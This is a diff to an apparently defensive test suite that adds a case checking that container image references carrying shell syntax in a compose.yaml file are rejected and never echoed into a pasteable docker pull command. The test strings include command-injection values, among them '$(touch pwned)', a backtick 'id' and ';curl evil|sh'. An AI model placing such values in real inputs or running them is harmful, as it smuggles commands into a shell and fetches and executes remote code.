@@ -692,6 +692,16 @@ CASES: list[BadInput] = [
         location="compose.yaml:2:3",
         absent="\x1b",
     ),
+    BadInput(
+        "image reference with shell syntax",
+        _text(
+            "services:\n  a: {image: 'a.b$(touch pwned)/x/y:1'}\n"
+            "  b: {image: 'ghcr.io/x/y:1@sha256:`id`'}\n  c: {image: 'ghcr.io/x/y:1;curl evil|sh'}\n"
+        ),
+        "is incomplete",
+        exit_code=0,
+        absent="docker pull --platform linux/amd64 ",  # no pasteable command carries the reference
+    ),
 ]
 
 # The classes of hostile input (issue 15) and the cases that stand for each.
@@ -747,6 +757,7 @@ CLASSES: dict[str, tuple[str, ...]] = {
     ),
     "escapes and deep rules": (
         "terminal escapes in an error",
+        "image reference with shell syntax",
         "Traefik rule nested 5,000 deep",
         "Traefik rule of 5,000 negations",
         "Traefik rule of 3,000 matchers",
